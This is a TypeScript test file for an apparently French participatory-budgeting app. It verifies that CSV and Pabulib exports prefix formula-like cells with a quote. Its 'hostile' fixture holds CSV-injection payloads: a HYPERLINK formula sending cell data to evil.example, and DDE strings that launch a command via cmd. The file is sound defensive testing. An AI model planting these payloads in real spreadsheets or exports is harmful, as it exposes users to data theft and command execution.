import { describe, expect, it } from 'vitest';
import { countEnvelope, describeCounting } from '../../functions/results/count-envelope.ts';
import { buildOpenData } from '../../functions/results/open-data.ts';
import { count, parsePabulib } from '../../shared/counting/index.ts';
import { csvCell, toCsv } from '../../shared/csv/csv-cell.ts';
import type { VoteSnapshot } from '../../shared/voting/frozen-snapshot.ts';

/** RFC 4180 reader (`;`, quotes doubled), the way a spreadsheet splits a file into cells. */
function parseCsv(text: string, separator = ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === separator) {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** What a spreadsheet runs: a cell (as read back) that begins with a formula character. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell);

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
  '+33 1 23 45 67 89',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const project = (id: string, title: string, summary: string, theme: string, cost: number) => ({
  id,
  title,
  summary,
  cost,
  envelope: 'nord',
  theme,
});

const snapshot: VoteSnapshot = {
  rules: { kind: 'approval', minChoices: 1, maxChoices: 3 },
  envelopes: [{ id: 'nord', name: '=Nord', amount: 100 }],
  projects: hostile.map((text, i) =>
    project(`p${i + 1}`, text, hostile[(i + 1) % hostile.length] ?? '', '@thème', 10 + i),
  ),
  counting: {
    rule: 'greedy',
    tieBreak: 'project-id',
    minimumSupport: 0,
    atLeastOneWinnerPerTerritory: false,
  },
  opensAt: '2026-10-01T07:00:00.000Z',
  closesAt: '2026-10-20T16:00:00.000Z',
  timeZone: 'Europe/Paris',
};
const ballots = [['p1', 'p2'], ['p3'], ['p2', 'p6'], ['p4', 'p5'], []];

function openData() {
  const counted = countEnvelope(
    snapshot,
    snapshot.envelopes[0] as VoteSnapshot['envelopes'][number],
    ballots,
    'essai',
  );
  const { files } = buildOpenData(
    snapshot,
    {
      edition: 'essai',
      resultsId: 'r1',
      snapshotHash: 'h1',
      counting: describeCounting(snapshot),
      envelopes: [counted.result],
    },
    new Map([['nord', counted.ballotsFile]]),
  );
  return { files, counted };
}

describe('CSV cells never start a formula', () => {
  it('prefixes text cells beginning with = + - @ tab or CR with a quote, and quotes them', () => {
    for (const text of hostile) {
      const written = csvCell(text);
      expect(written.startsWith(`"'`)).toBe(true);
      expect(parseCsv(`${written}\r\n`)[0]?.[0]).toBe(`'${text}`);
    }
  });

  it('leaves numbers alone, negative ones included, and plain text as it was', () => {
    expect(toCsv(['n', 'm', 't'], [[-12.5, '-3', 'Parc']])).toBe('n;m;t\r\n-12.5;-3;Parc\r\n');
  });

  it('writes no cell of projects.csv or results.csv that a spreadsheet would run', () => {
    const { files } = openData();
    for (const name of ['projects.csv', 'results.csv']) {
      const rows = parseCsv(files.get(name) ?? '');
      expect(rows.length).toBe(hostile.length + 1);
      const cells = rows.flat();
      expect(cells.filter(runsAsFormula)).toEqual([]);
      // The text is kept, behind its quote.
      for (const text of hostile) expect(cells).toContain(`'${text}`);
    }
  });

  it('writes no formula in the .pb either, and its recount still gives the published winners', () => {
    const { files, counted } = openData();
    const pb = files.get('ballots-nord.pb') ?? '';
    const cells = pb
      .split('\n')
      .filter((line) => line && !['META', 'PROJECTS', 'VOTES'].includes(line))
      .flatMap((line) => parseCsv(`${line}\n`).flat());
    expect(cells.filter(runsAsFormula)).toEqual([]);
    const instance = parsePabulib(pb);
    // The names are kept, behind their quote.
    for (const p of instance.projects) expect(p.fields.get('name')).toMatch(/^'./s);
    expect(count(instance, { rule: 'greedy' }).selected).toEqual(counted.result.selected);
    expect(counted.result.selected.length).toBeGreaterThan(0);
  });
});
